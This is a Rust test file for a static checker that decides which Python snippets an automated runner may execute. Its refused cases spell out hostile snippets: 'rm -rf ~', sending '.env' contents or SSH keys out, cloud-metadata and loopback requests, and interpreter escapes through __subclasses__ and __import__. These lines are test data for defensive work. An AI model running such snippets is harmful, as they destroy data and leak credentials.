#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::*;
use crate::analysis::effects::Reach;

/// Code that only computes, reads literal files and prints: allowed, with its reads.
#[test]
fn pure_code_is_inside_the_grammar() {
    let cases: &[(&str, &[&str])] = &[
        ("print(1)", &[]),
        (
            "import json,sys; data=json.load(sys.stdin); print('\\n'.join(sorted(data.get('paths', {}).keys())))",
            &[],
        ),
        (
            "import json; d=json.load(open('/w/tour.json')); print('Steps:', len(d)); print('Orders:', [s['order'] for s in d])",
            &["/w/tour.json"],
        ),
        (
            "import json\nwith open('a.jsonl', 'r', encoding='utf-8') as f:\n    for line in f:\n        if line.strip():\n            print(json.loads(line)['type'])\n",
            &["a.jsonl"],
        ),
        (
            "import sys, json\ng = json.load(sys.stdin)\nfor layer in g.get('layers', []):\n    print(f\"\\n{layer['id']} - {layer['name']}\")\nedge_types = {}\nfor e in g.get('edges', []):\n    t = e.get('type', 'unknown')\n    edge_types[t] = edge_types.get(t, 0) + 1\nfor t, c in sorted(edge_types.items(), key=lambda x: -x[1]):\n    print(f'  {t}: {c}')\n",
            &[],
        ),
        (
            "from collections import Counter, defaultdict\nimport re\nc = Counter(re.findall(r'\\w+', 'a b a'))\nprint(c.most_common(1))\nd = defaultdict(list)\nd['x'].append(1)\n",
            &[],
        ),
        (
            "import plistlib\nwith open('/tmp/s.plist', 'rb') as f:\n    data = plistlib.load(f)\nobjects = data.get('$objects', [])\ncs = objects[189]\nif isinstance(cs, dict):\n    for k, v in cs.items():\n        if isinstance(v, plistlib.UID):\n            print(k, int(v))\n",
            &["/tmp/s.plist"],
        ),
        (
            "def f(x, *rest, y=2, **kw):\n    return x + y\ntry:\n    print(f(1))\nexcept (KeyError, ValueError) as e:\n    print(type(e).__name__, e)\nfinally:\n    pass\n",
            &[],
        ),
        (
            "import os.path\nprint(os.path.join('a', 'b'), os.path.exists('c'))",
            &[],
        ),
        (
            "from datetime import datetime, timedelta\nprint((datetime.now() - timedelta(days=1)).strftime('%Y'))",
            &[],
        ),
        ("import sys\nsys.stdout.write('x\\n')\nsys.exit(0)", &[]),
        (
            "import hashlib\nprint(hashlib.sha256(open('f.bin','rb').read()).hexdigest())",
            &["f.bin"],
        ),
        ("x = [i*i for i in range(10) if i % 2]\nprint(sum(x), max(x), (y := 3))", &[]),
        ("if __name__ == '__main__':\n    print('hi')", &[]),
        ("import urllib.parse\nprint(urllib.parse.quote('a b'))", &[]),
    ];
    for (code, reads) in cases {
        match judge(code) {
            Ok(p) => assert_eq!(p.reads(), *reads, "{code}"),
            Err(why) => panic!("{code:?} refused: {why}"),
        }
    }
}

/// Anything that runs, writes or sends beyond what the grammar names, or reaches the rest
/// of the interpreter: outside.
#[test]
fn what_escapes_the_grammar_is_refused() {
    let cases: &[(&str, &str)] = &[
        ("import os; os.system('rm -rf ~')", "os.system"),
        ("import os\nos.remove('x')", "os.remove"),
        ("import subprocess; subprocess.run(['ls'])", "subprocess"),
        (
            "import urllib.request; urllib.request.urlopen('http://x')",
            "local name",
        ),
        ("import socket", "socket"),
        ("from os import system", "os.system"),
        ("from os import *", "everything"),
        ("from . import x", "relative"),
        ("import os\nm = os\nm.system('x')", "module os as a value"),
        (
            "import os.path\nos.path.os.system('x')",
            "os.path.os.system",
        ),
        ("open('x', 'r+').write('y')", "mode r+"),
        ("open('x', mode='rw')", "mode rw"),
        (
            "import json\np = json.load(open('a.json'))['p']\nopen(p)",
            "computed",
        ),
        ("import sys\nopen(sys.argv[1], 'w')", "computed"),
        ("open(f'{1}.txt')", "computed"),
        ("open('\\x2e.env')", "computed"),
        ("open('x', opener=print)", "opener"),
        ("f = open\nf('x', 'w')", "open around"),
        ("list(map(open, ['a']))", "open around"),
        ("exec('print(1)')", "exec"),
        ("eval('1')", "eval"),
        ("__import__('os').system('x')", "__import__"),
        ("getattr(print, 'x')", "getattr"),
        ("print(().__class__.__base__.__subclasses__())", "__base__"),
        (
            "g = (x for x in [1])\nprint(g.gi_frame.f_globals)",
            "gi_frame",
        ),
        (
            "try:\n    1/0\nexcept Exception as e:\n    print(e.__traceback__.tb_frame)",
            "__traceback__",
        ),
        ("class A:\n    pass", "class"),
        ("@print\ndef f(): pass", "decorator"),
        ("import os\nprint(os.environ)", "os.environ"),
        ("import os\nprint(os.environ.get('HOME'))", "os.environ"),
        ("import sys\nsys.path.insert(0, '/tmp')", "sys.path"),
        ("import sys\nprint(sys.modules['os'])", "sys.modules"),
        ("print 'py2'", "Python 2"),
        ("def f(:\n", "parse"),
        ("async def f():\n    await g()", "await"),
        ("print(undefined_name)", "undefined_name"),
        ("import pickle", "pickle"),
        ("import antigravity", "antigravity"),
        ("global x", "scopes"),
        (
            "import operator\noperator.methodcaller('system')",
            "methodcaller",
        ),
        ("help(print)", "help"),
        ("breakpoint()", "breakpoint"),
    ];
    for (code, says) in cases {
        match judge(code) {
            Ok(p) => panic!("{code:?} allowed: {p:?}"),
            Err(why) => assert!(why.contains(says), "{code:?}: {why} (wanted {says})"),
        }
    }
}

fn effects(code: &str) -> Vec<Effect> {
    match judge(code) {
        Ok(p) => p.effects,
        Err(why) => panic!("{code:?} refused: {why}"),
    }
}

fn read(path: &str, reach: Reach) -> Effect {
    Effect::Read {
        path: path.into(),
        reach,
    }
}

fn fetch(url: &str, host: &str) -> Effect {
    Effect::Net {
        url: Some(url.into()),
        host: Some(host.into()),
        sends: Vec::new(),
    }
}

fn refused(cases: &[(&str, &str)]) {
    for (code, says) in cases {
        match judge(code) {
            Ok(p) => panic!("{code:?} allowed: {p:?}"),
            Err(why) => assert!(why.contains(says), "{code:?}: {why} (wanted {says})"),
        }
    }
}

/// A GET of a literal URL of a public host with literal headers is a fetch that sends
/// nothing of the machine's: the Request, `urlopen` of a URL or of the Request, the
/// response read as the grammar lists it (and written to a file, as `curl -o` does).
#[test]
fn gets_of_literal_public_urls_are_fetches() {
    let openlibrary = "https://openlibrary.org/search.json?author=x&limit=2";
    for code in [
        "import urllib.request, json; req = urllib.request.Request('https://openlibrary.org/search.json?author=x&limit=2', headers={'User-Agent': 'X/1.0'}); resp = json.loads(urllib.request.urlopen(req, timeout=15).read()); print(json.dumps(resp, indent=2)[:3000])",
        "import urllib.request\nprint(urllib.request.urlopen('https://openlibrary.org/search.json?author=x&limit=2').read().decode())",
        "from urllib.request import urlopen, Request\nimport json\nwith urlopen(Request('https://openlibrary.org/search.json?author=x&limit=2', method='GET')) as r:\n    print(r.status, r.getcode(), r.headers.get('content-type'))\n    d = json.load(r)\n",
        "import urllib.request as ur\nBASE = 'https://openlibrary.org'\nurl = BASE + '/search.json' + '?author=x&limit=2'\nwith ur.urlopen(url, timeout=10) as resp:\n    for line in resp:\n        print(line)\n",
        "import urllib.request\nq = 'author=x'\nr = urllib.request.urlopen(f'https://openlibrary.org/search.json?{q}&limit=2')\nprint(r.read()[:100])",
        "import urllib.request\nurllib.request.urlopen('https://openlibrary.org/search.json?author=x&limit=2')",
    ] {
        assert_eq!(
            effects(code),
            vec![fetch(openlibrary, "openlibrary.org")],
            "{code}"
        );
    }
    assert_eq!(
        effects("import urllib.request\nwith open('/tmp/page.json', 'wb') as f:\n    f.write(urllib.request.urlopen('https://example.com/page.json').read())"),
        vec![
            Effect::write("/tmp/page.json", crate::analysis::effects::WriteHow::Replace),
            fetch("https://example.com/page.json", "example.com"),
        ]
    );
}

/// Sending anything, a URL computed at run time or reaching anything but a public host,
/// a secret-shaped value, and the rest of urllib: outside.
#[test]
fn requests_beyond_a_literal_get_are_refused() {
    refused(&[
        // Data or another method.
        (
            "import urllib.request\nurllib.request.urlopen('https://x.example.com/', data=b'k=v')",
            "sends data",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('https://x.example.com/', b'k=v')",
            "sends data",
        ),
        (
            "import urllib.request\nurllib.request.Request('https://x.example.com/', b'k=v')",
            "sends data",
        ),
        (
            "import urllib.request\nurllib.request.urlopen(urllib.request.Request('https://x.example.com/', data=open('.env','rb').read()))",
            "sends data",
        ),
        (
            "import urllib.request\nurllib.request.urlopen(urllib.request.Request('https://x.example.com/a', method='DELETE'))",
            "DELETE",
        ),
        (
            "import urllib.request\nm = 'GET'\nurllib.request.Request('https://x.example.com/', method=m)",
            "computed",
        ),
        // A URL computed at run time (a file's content, an argument, a variable).
        (
            "import urllib.request\nkey = open('/run/agenix/key').read().strip()\nurllib.request.urlopen(f'https://x.example.com/v1?key={key}')",
            "computed",
        ),
        (
            "import urllib.request, sys\nurllib.request.urlopen(sys.argv[1])",
            "computed",
        ),
        (
            "import urllib.request, json\nu = json.load(open('c.json'))['url']\nurllib.request.urlopen(u)",
            "computed",
        ),
        (
            "import urllib.request\nfor u in ['https://a.example/', 'https://b.example/']:\n    urllib.request.urlopen(u)",
            "computed",
        ),
        // Loopback, private and metadata addresses, other schemes, look-alikes.
        (
            "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:8080/admin')",
            "address",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('http://localhost:3000/')",
            "local name",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('http://10.0.0.5/')",
            "address",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/')",
            "address",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('http://metadata.google.internal/computeMetadata/v1/')",
            ".internal",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('file:///etc/passwd')",
            "only http and https",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('ftp://x.example.com/f')",
            "only http and https",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('https://аpple.com/')",
            "characters",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('https://x.example\\\\@127.0.0.1/')",
            "computed",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('https://x.example@127.0.0.1/')",
            "user information",
        ),
        // Secrets in the URL or a header, headers for metadata endpoints, headers or
        // options not written out.
        (
            "import urllib.request\nurllib.request.urlopen('https://x.example.com/?token=ghp_abcdefghijklmnopqrstuvwxyz0123456789')",
            "secret",
        ),
        (
            "import urllib.request\nurllib.request.Request('https://x.example.com/', headers={'Authorization': 'Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789'})",
            "secret",
        ),
        (
            "import urllib.request\nurllib.request.Request('https://x.example.com/', headers={'Metadata-Flavor': 'Google'})",
            "metadata",
        ),
        (
            "import urllib.request, os\nurllib.request.Request('https://x.example.com/', headers={'X-Key': os.environ['API_KEY']})",
            "os.environ",
        ),
        (
            "import urllib.request\nh = {'User-Agent': 'x'}\nurllib.request.Request('https://x.example.com/', headers=h)",
            "headers computed",
        ),
        (
            "import urllib.request\nurllib.request.Request('https://x.example.com/', headers={**{'a': 'b'}})",
            "headers computed",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('https://x.example.com/?d=Zm4gbWFpbigpIHsgcHJpbnRsbiEoImhlbGxvIik7IH0K')",
            "encoded data",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('https://x.example.com/', context=None)",
            "context=",
        ),
        (
            "import urllib.request\nurllib.request.urlopen('https://x.example.com/', cafile='ca.pem')",
            "cafile=",
        ),
        // Code that reads anything local and fetches: which requests it makes could
        // carry what it read.
        (
            "import urllib.request\nd = open('notes.txt').read()\nif d.startswith('a'):\n    urllib.request.urlopen('https://x.example.com/a')",
            "reads local files",
        ),
        (
            "import urllib.request, sys\nfor c in sys.stdin.read():\n    if c == 'a':\n        urllib.request.urlopen('https://x.example.com/a')",
            "reads local files",
        ),
        (
            "import urllib.request\nfrom sys import argv\nif argv[1] == 'a':\n    urllib.request.urlopen('https://x.example.com/a')",
            "reads local files",
        ),
        (
            "import urllib.request, os\nif os.path.exists('.env'):\n    urllib.request.urlopen('https://x.example.com/a')",
            "reads local files",
        ),
        // The rest of urllib.request, and its functions as values.
        (
            "import urllib.request\nurllib.request.build_opener().open('https://x.example.com/')",
            "urllib.request.build_opener",
        ),
        (
            "import urllib.request\nurllib.request.install_opener(None)",
            "urllib.request.install_opener",
        ),
        (
            "import urllib.request\nurllib.request.ProxyHandler({'https': 'http://127.0.0.1:8080'})",
            "urllib.request.ProxyHandler",
        ),
        (
            "import urllib.request\nurllib.request.urlretrieve('https://x.example.com/a', '.bashrc')",
            "urlretrieve",
        ),
        ("from urllib.request import urlretrieve", "urlretrieve"),
        (
            "import urllib.request\nf = urllib.request.urlopen\nf('http://127.0.0.1/')",
            "around as a value",
        ),
        (
            "from urllib.request import urlopen\nlist(map(urlopen, ['http://127.0.0.1/']))",
            "around as a value",
        ),
        (
            "import urllib.request\nprint(urllib.request.__dict__)",
            "__dict__",
        ),
        (
            "from urllib.request import urlopen\nprint(urlopen.__globals__)",
            "__globals__",
        ),
        (
            "import urllib.request\ngetattr(urllib.request, 'urlopen')('http://127.0.0.1/')",
            "getattr",
        ),
        // The Request and the response only as the grammar follows them.
        (
            "import urllib.request\nr = urllib.request.Request('https://x.example.com/')\nr.add_header('X', open('.env').read())\nurllib.request.urlopen(r)",
            "add_header",
        ),
        (
            "import urllib.request\nr = urllib.request.Request('https://x.example.com/')\nr.data = b'x'\nurllib.request.urlopen(r)",
            "attribute of a Request",
        ),
        (
            "import urllib.request\nr = urllib.request.Request('https://x.example.com/')\nr.full_url = 'http://127.0.0.1/'\nurllib.request.urlopen(r)",
            "attribute of a Request",
        ),
        (
            "import urllib.request\nr = urllib.request.urlopen('https://x.example.com/')\nprint(r.fp)",
            "fp",
        ),
        (
            "import urllib.request\ndef f(x):\n    return x.fp\nf(urllib.request.urlopen('https://x.example.com/'))",
            "passes urlopen's response",
        ),
        (
            "import urllib.request\nrs = [urllib.request.urlopen('https://x.example.com/')]",
            "urlopen's response",
        ),
        (
            "import urllib.request\nr = 'http://127.0.0.1/'\nr = urllib.request.Request('https://x.example.com/')\nurllib.request.urlopen(r)",
            "cannot follow",
        ),
    ]);
}

/// Files read, listed, looked at and written by names the code spells out, through
/// `open`, `os`, `os.path` and `pathlib`, with names bound to literal text followed.
#[test]
fn files_named_literally_are_read_listed_and_written() {
    use crate::analysis::effects::WriteHow::*;
    let cases: Vec<(&str, Vec<Effect>)> = vec![
        (
            "import json\nf = '/w/.knowledge.json'\nd = json.load(open(f))\nd['n'] = 5\njson.dump(d, open(f, 'w'), indent=2)",
            vec![
                read("/w/.knowledge.json", Reach::File),
                Effect::write("/w/.knowledge.json", Replace),
            ],
        ),
        (
            "with open('/tmp/out.png', 'wb') as f:\n    f.write(b'x')\nopen('log.txt', 'a').write('x')\nopen('new.txt', 'x')",
            vec![
                Effect::write("/tmp/out.png", Replace),
                Effect::write("log.txt", Append),
                Effect::write("new.txt", Replace),
            ],
        ),
        (
            "import os, json\nos.makedirs('.ua/intermediate', exist_ok=True)\nwith open(os.path.join('.ua/intermediate', 'scan.json'), 'w') as f:\n    json.dump({}, f)",
            vec![
                Effect::write(".ua/intermediate", Mkdir),
                Effect::write(".ua/intermediate/scan.json", Replace),
            ],
        ),
        (
            "import os\nif os.path.exists('.ua/tmp'):\n    print([f for f in os.listdir('.ua/tmp') if f.startswith('x')], os.path.getsize('a.txt'))",
            vec![
                read(".ua/tmp", Reach::Metadata),
                read("a.txt", Reach::Metadata),
            ],
        ),
        (
            "from pathlib import Path\np = Path('docs') / 'notes.md'\nprint(p.read_text(encoding='utf-8'), p.exists(), p.name, p.suffix, p.parent)\nPath('out').mkdir(parents=True, exist_ok=True)\n(Path('out') / 'x.txt').write_text('hi')",
            vec![
                read("docs/notes.md", Reach::File),
                read("docs/notes.md", Reach::Metadata),
                Effect::write("out", Mkdir),
                Effect::write("out/x.txt", Replace),
            ],
        ),
        (
            "import pathlib\nprint(sorted(p.name for p in pathlib.Path('src').iterdir()))\nprint(len(list(pathlib.Path('src').glob('*.py'))))",
            vec![read("src", Reach::Metadata)],
        ),
        (
            "import pathlib\nfor p in pathlib.Path('.').iterdir():\n    print(p)",
            vec![read(".", Reach::Metadata)],
        ),
        (
            "from pathlib import Path\ninput_path = 'sub-01_bold.nii.gz'\nprint(Path(input_path).stem.replace('.nii', ''))\ndef stem(x):\n    return Path(x).stem\n",
            vec![],
        ),
        // Files below a directory named literally, by names chosen at run time: the
        // whole tree, through the links in it.
        (
            "import os, json\nfor name in sorted(os.listdir('data')):\n    if name.endswith('.json'):\n        print(json.load(open(os.path.join('data', name))))",
            vec![
                read("data", Reach::Metadata),
                read("data", Reach::TreeFollow),
            ],
        ),
        (
            "from pathlib import Path\nfor f in sorted(Path('notes').glob('*.md')):\n    print(f.name, f.read_text()[:80])",
            vec![
                read("notes", Reach::Metadata),
                read("notes", Reach::TreeFollow),
            ],
        ),
        (
            "from pathlib import Path\nfiles = sorted(Path('.').rglob('*.py'))\nprint(len(files))\nfor f in files:\n    print(f, len(f.read_text().splitlines()))",
            vec![read(".", Reach::TreeFollow)],
        ),
        (
            "from pathlib import Path\nfor f in sorted(Path('notes').glob('*.md'), reverse=True):\n    print(f.stem)",
            vec![read("notes", Reach::Metadata)],
        ),
        // Entry names kept in a list nothing can change.
        (
            "import os, json\nfiles = [f for f in os.listdir('data') if f.endswith('.json')]\nprint(len(files))\nif files:\n    for f in sorted(files, reverse=True):\n        print(json.load(open(os.path.join('data', f))))",
            vec![
                read("data", Reach::Metadata),
                read("data", Reach::TreeFollow),
            ],
        ),
        // A name bound to a literal and to entry names holds either wherever it is used
        // (an entry name alone is a path below the working directory).
        (
            "import os\nn = 'README.md'\nprint(open(n).read())\nfor n in os.listdir('d'):\n    print(open(os.path.join('d', n)).read())",
            vec![
                read("README.md", Reach::File),
                read(".", Reach::TreeFollow),
                read("d", Reach::Metadata),
                read("d/README.md", Reach::File),
                read("d", Reach::TreeFollow),
            ],
        ),
        (
            "import os\nfor n in os.listdir('/etc'):\n    print(n, os.path.isfile(f'/etc/{n}'))",
            vec![
                read("/etc", Reach::Metadata),
                read("/etc", Reach::TreeFollow),
            ],
        ),
    ];
    for (code, want) in cases {
        assert_eq!(effects(code), want, "{code}");
    }
}

/// A write to a path computed at run time, a path that can climb out of its directory,
/// and the rest of `os` and `pathlib`: outside. A Path goes nowhere the grammar does not
/// follow (a function, a container, a lambda, an unpacking, another name's binding).
#[test]
fn paths_beyond_literal_names_are_refused() {
    refused(&[
        // Writes to computed paths, even below a literal directory.
        (
            "import os\nfor n in os.listdir('src'):\n    open(os.path.join('src', n), 'w').write('x')",
            "below src",
        ),
        (
            "from pathlib import Path\nfor f in Path('src').glob('*.py'):\n    f.write_text(f.read_text().replace('a', 'b'))",
            "below src",
        ),
        (
            "import json\np = json.load(open('a.json'))['out']\nopen(p, 'w')",
            "computed",
        ),
        (
            "import os, sys\nos.makedirs(sys.argv[1], exist_ok=True)",
            "computed",
        ),
        (
            "import os\nos.makedirs('d', 0o777, exist_ok=True)",
            "other than one path",
        ),
        ("import os\nos.makedirs('d', mode=0o777)", "mode="),
        ("from pathlib import Path\nPath('d').mkdir(0o777)", "mode"),
        // Reads of paths that could leave their directory or are not known.
        (
            "import os\nfor n in os.listdir('d'):\n    open(os.path.join('d', n, '..', '..', 'x'))",
            "computed",
        ),
        (
            "from pathlib import Path\nfor p in Path('d').iterdir():\n    print(open('d/' + p.stem).read())",
            "computed",
        ),
        (
            "from pathlib import Path\nfor p in Path('d').iterdir():\n    print(p.parent.parent.read_text())",
            "computed",
        ),
        (
            "import os\nfor n in os.listdir('d'):\n    print(open('d' + n).read())",
            "computed",
        ),
        (
            "import os\nnames = os.listdir('d')\nnames.append('/root/.ssh/id_rsa')\nfor n in names:\n    open(n).read()",
            "computed",
        ),
        ("import os\np = input\nos.path.exists(p)", "input"),
        // A name bound elsewhere to what is not followed is not known.
        (
            "from pathlib import Path\nfiles = sorted(Path('d').glob('*'))\nfiles = ['/root/.ssh/id_rsa']\nfor f in files:\n    f.read_text()",
            "computed",
        ),
        (
            "import os\nfor n in os.listdir('d'):\n    n += '/..'\n    open(os.path.join('d', n, '..', 'x')).read()",
            "computed",
        ),
        (
            "import os\nfor n in os.listdir('d'):\n    print(open(os.path.join('d', (n := '/root/.ssh/id_rsa'))).read())",
            "computed",
        ),
        ("a = b\nb = a\nopen(a)", "cannot follow"),
        // A list of entry names that could be changed or handed on.
        (
            "import os\nfiles = [f for f in os.listdir('d')]\nfiles.append('/root/.ssh/id_rsa')\nfor f in files:\n    open(f).read()",
            "computed",
        ),
        (
            "import os\nfiles = os.listdir('d')\nother = files\nother.append('/root/.ssh/id_rsa')\nfor f in files:\n    open(f).read()",
            "computed",
        ),
        (
            "import os\ndef add(l):\n    l.insert(0, '../../x')\nfiles = sorted(os.listdir('d'))\nadd(files)\nfor f in files:\n    open(os.path.join('d', f)).read()",
            "computed",
        ),
        (
            "import os\nfiles = sorted(os.listdir('d'))\nfiles[0] = '../../x'\nfor f in files:\n    open(os.path.join('d', f)).read()",
            "computed",
        ),
        (
            "import os\nfiles = [f + '/..' for f in os.listdir('d')]\nfor f in files:\n    open(os.path.join('d', f, 'x')).read()",
            "computed",
        ),
        ("from pathlib import Path\nlist(Path('d').glob('../*'))", "leave"),
        ("from pathlib import Path\nlist(Path('d').glob('/etc/*'))", "leave"),
        (
            "from pathlib import Path\nimport sys\nlist(Path('d').glob(sys.argv[1]))",
            "computed",
        ),
        // The rest of os and pathlib.
        ("from pathlib import Path\nPath('x').unlink()", "Path.unlink"),
        ("from pathlib import Path\nPath('x').rename('y')", "Path.rename"),
        ("from pathlib import Path\nPath('x').replace('y')", "Path.replace"),
        ("from pathlib import Path\nPath('x').touch()", "Path.touch"),
        ("from pathlib import Path\nPath('x').chmod(0o777)", "Path.chmod"),
        ("from pathlib import Path\nPath('x').symlink_to('/etc')", "Path.symlink_to"),
        (
            "from pathlib import Path\nprint(Path('~/.ssh/id_rsa').expanduser().read_text())",
            "Path.expanduser",
        ),
        ("from pathlib import Path\nprint(Path.home())", "pathlib.Path.home"),
        ("import pathlib\nprint(pathlib.Path.cwd())", "pathlib.Path.cwd"),
        ("from pathlib import Path\nprint(Path('x').resolve())", "Path.resolve"),
        ("import os\nos.rename('a', 'b')", "os.rename"),
        ("import os\nos.walk('.')", "os.walk"),
        ("import os\nprint(os.path.expanduser('~'))", "expanduser"),
        ("import os\nos.chdir('/')", "os.chdir"),
        ("import tempfile\ntempfile.mkdtemp()", "tempfile"),
        // A Path where the grammar cannot follow it.
        (
            "from pathlib import Path\nsorted(Path('d').iterdir(), key=lambda p: p.replace('/tmp/x'))",
            "sorted",
        ),
        (
            "from pathlib import Path\nlist(map(lambda p: p.replace('/tmp/x'), Path('d').iterdir()))",
            "map",
        ),
        (
            "from pathlib import Path\nfor i, p in enumerate(Path('d').iterdir()):\n    p.replace('/tmp/x')",
            "enumerate",
        ),
        (
            "from pathlib import Path\nps = [p for p in Path('d').iterdir()]\nps[0].unlink()",
            "a Path",
        ),
        (
            "from pathlib import Path\nfiles = sorted(Path('d').iterdir())\nfiles[0].unlink()",
            "a list of Paths",
        ),
        (
            "from pathlib import Path\nfiles = sorted(Path('d').iterdir())\nfiles.append(Path('/etc/passwd'))",
            "a list of Paths",
        ),
        (
            "from pathlib import Path\ndef f(p):\n    p.replace('/tmp/x')\nf(Path('x'))",
            "passes a Path",
        ),
        (
            "from pathlib import Path\na = b = Path('x')\na.replace('/tmp/x')",
            "Path.replace",
        ),
        ("from pathlib import Path\np = Path('x')\nd = {'k': p}", "a Path"),
        (
            "from pathlib import Path\nimport urllib.request\np = Path('x')\np = urllib.request.urlopen('https://x.example.com/')\nprint(p.name)",
            "cannot follow",
        ),
        (
            "from pathlib import Path\nwith Path('x') as p:\n    pass",
            "a Path",
        ),
        (
            "from pathlib import Path\nprint(Path('x').__class__)",
            "__class__",
        ),
        ("from pathlib import Path\ngetattr(Path('x'), 'unlink')()", "getattr"),
        ("from pathlib import Path\nP = Path\nP('x').unlink()", "around as a value"),
        ("from pathlib import Path\nPath = str", "also imports"),
        (
            "try:\n    open('x')\nexcept OSError as e:\n    e.filename.unlink()",
            "unlink",
        ),
        ("import os\nprint(os.path.exists)", "around as a value"),
    ]);
}

#[test]
fn bounds_are_refusals_not_crashes() {
    let long = "x = 1\n".repeat(MAX_CODE / 6 + 1);
    assert!(judge(&long).unwrap_err().contains("longer"));
    let deep = format!("print({}1{})", "(".repeat(400), ")".repeat(400));
    assert!(judge(&deep).is_err());
    assert!(judge("").unwrap().effects.is_empty());
}

proptest::proptest! {
    /// Any text at all is judged without a panic; what passes reaches only paths and URLs
    /// made of text the code spells out.
    #[test]
    fn any_text_is_judged_without_panicking(code in "[ -~\n\t]{0,200}") {
        if let Ok(p) = judge(&code) {
            for e in &p.effects {
                let path = match e {
                    Effect::Read { path, .. } | Effect::Write { path, .. } => path,
                    Effect::Net { url: Some(u), .. } => u,
                    _ => continue,
                };
                for piece in path.split('/').filter(|s| !s.is_empty() && *s != ".") {
                    proptest::prop_assert!(code.contains(piece), "{path} from {code:?}");
                }
            }
        }
    }

    /// Python-shaped fragments, recombined, never panic either.
    #[test]
    fn python_fragments_are_judged_without_panicking(parts in proptest::collection::vec(
        proptest::sample::select(vec![
            "import os\n", "import json\n", "print(", ")", "open('a')", "os.system('x')",
            "x = 1\n", "for i in range(3):\n    ", "lambda y: y", "f'{x}'", "[i for i in x]",
            "__import__", ".gi_frame", "def f():\n    ", "return\n", "try:\n    pass\nexcept E as e:\n    pass\n",
        ]),
        0..12,
    )) {
        let code: String = parts.concat();
        let _ = judge(&code);
    }
}
